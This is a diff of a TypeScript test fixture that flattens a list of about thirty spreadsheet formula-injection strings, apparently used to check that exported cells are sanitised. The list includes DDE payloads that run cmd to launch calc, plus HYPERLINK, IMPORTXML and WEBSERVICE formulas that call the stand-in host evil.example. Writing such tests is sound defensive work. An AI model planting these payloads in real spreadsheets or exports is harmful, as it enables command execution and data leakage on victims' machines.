@@ -13,10 +13,10 @@ import { createWords } from './words.ts'
 
 /** Thirty texts that a spreadsheet would run: formulas, calls of programs, and what only looks like an empty beginning. */
 const formulas = [
-  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|"/C calc"!A0', '+cmd|"/C calc"!A0', '-cmd|"/C calc"!A0', '@cmd|"/C calc"!A0'],
-  ...['=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")'],
-  ...['=DDE("cmd";"/C calc";"x")', '=2+5+cmd|"/C calc"!A0', '=\'1\'+1', '=";=1+1', '=1+1;=1+1', '=1+1,=1+1', '"=1+1', "'=1+1", ';=1+1'],
-  ...['-2+3+cmd|"/C calc"!D2', '+(1)', '--1', '=-1', '=+1', '=@A1', '=A1&B1', '@A1', '+A1', '-A1'],
+  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|"/C calc"!A0', '+cmd|"/C calc"!A0', '-cmd|"/C calc"!A0', '@cmd|"/C calc"!A0',
+  '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")', '=WEBSERVICE("http://evil.example")',
+  '=DDE("cmd";"/C calc";"x")', '=2+5+cmd|"/C calc"!A0', "='1'+1", '=";=1+1', '=1+1;=1+1', '=1+1,=1+1', '"=1+1', "'=1+1", ';=1+1',
+  '-2+3+cmd|"/C calc"!D2', '+(1)', '--1', '=-1', '=+1', '=@A1', '=A1&B1', '@A1', '+A1', '-A1',
 ] // prettier-ignore
 
 interface Sent {
